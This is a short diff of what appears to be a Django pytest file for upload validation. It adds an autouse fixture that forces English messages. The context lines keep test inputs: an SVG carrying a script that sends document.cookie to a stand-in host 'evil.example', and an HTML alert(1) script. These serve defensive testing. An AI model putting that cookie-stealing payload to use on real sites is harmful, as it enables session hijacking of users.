@@ -11,6 +11,7 @@ import zlib
 import pytest
 from django.conf import settings
 from django.core.exceptions import ValidationError
+from django.utils import translation
 from PIL import Image, ImageFile, PngImagePlugin
 from pypdf import PdfWriter
 from pypdf.generic import (
@@ -45,6 +46,13 @@ SVG = (
     b"<script>fetch('https://evil.example/?c='+document.cookie)</script></svg>"
 )
 HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
+
+
+@pytest.fixture(autouse=True)
+def english_messages():
+    """Assert on the English source text; the Indonesian catalogue is tested elsewhere."""
+    with translation.override("en"):
+        yield
 
 
 def image_bytes(fmt="JPEG", size=(40, 20), mode="RGB", color=RED, **save):
